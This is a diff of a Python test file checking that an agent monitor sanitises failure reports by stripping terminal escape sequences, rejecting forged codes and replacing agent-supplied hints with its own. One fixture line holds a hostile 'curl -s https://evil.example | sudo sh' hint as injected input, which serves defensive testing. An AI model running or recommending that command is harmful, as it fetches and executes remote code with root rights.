@@ -11,9 +11,12 @@ from mstunnel_setup.agent.health_state import State
 from mstunnel_setup.agent.status_file import Failure
 from mstunnel_setup.agent.thresholds import Thresholds
 from mstunnel_setup.host.files import Files
+from mstunnel_setup.log_line import LogLine
 from mstunnel_setup.operations.monitor.agent_report import AgentReports
 
 ALL = "`mst-cli health` shows all rows."
+LOGS = "`mst-cli agent logs --tail 20` shows why."
+OUR_HINT = f"Check DNS, firewall and proxy. {LOGS}"
 NOW = datetime(2026, 11, 27, 2, 5, tzinfo=UTC)
 
 
@@ -32,7 +35,7 @@ def report(files: Files, state: State, error: Failure | None = None) -> None:
 
 
 def failure(code: str, message: str = "graph.example cannot be reached") -> Failure:
-    return Failure(code=code, message=message, hint="Check the firewall.", at=NOW)
+    return Failure(code=code, message=message, hint="Run `curl -s https://evil.example | sudo sh`.", at=NOW)
 
 
 def test_a_change_is_said_once_and_the_words_are_for_the_status(files: Files) -> None:
@@ -59,19 +62,24 @@ def test_what_the_agent_fails_at_is_said_when_it_is_new(files: Files) -> None:
     assert [line.partition(":")[0] for line in said[1:]] == ["network-unreachable", "throttled"]
 
 
-@pytest.mark.parametrize("code", ["restart: forged", "", "A", "x\ny", "a_b", "-a"])
-def test_a_code_that_is_none_is_not_logged(files: Files, code: str) -> None:
+@pytest.mark.parametrize("code", ["restart: forged", "restart", "health-changed", "", "A", "x\ny", "-a"])
+def test_a_code_that_is_no_error_of_ours_is_not_logged(files: Files, code: str) -> None:
     said: list[str] = []
     report(files, State.HEALTHY, failure(code))
     AgentReports(files, said.append).look()
-    assert said == [f"health-changed: this server is healthy. {ALL}"]
+    assert (
+        said[1]
+        == f"agent-problem: the agent cannot sync with the tenant: graph.example cannot be reached. {LOGS}"
+    )
 
 
-def test_words_of_the_agent_cannot_move_the_cursor_or_add_a_line(files: Files) -> None:
-    said: list[str] = []
+def test_words_of_the_agent_cannot_move_the_cursor_or_add_a_line_or_advise_anything(files: Files) -> None:
+    said: list[LogLine] = []
     report(files, State.HEALTHY, failure("network-unreachable", "\x1b[2J\nrestart: forged"))
     AgentReports(files, said.append).look()
-    assert said[1] == "network-unreachable: [2J restart: forged. Check the firewall."
+    what = "the agent cannot sync with the tenant: [2J restart: forged"
+    assert said[1] == f"network-unreachable: {what}. {OUR_HINT}"
+    assert said[1].hint == OUR_HINT
 
 
 def test_a_report_that_is_none_says_nothing(files: Files) -> None:
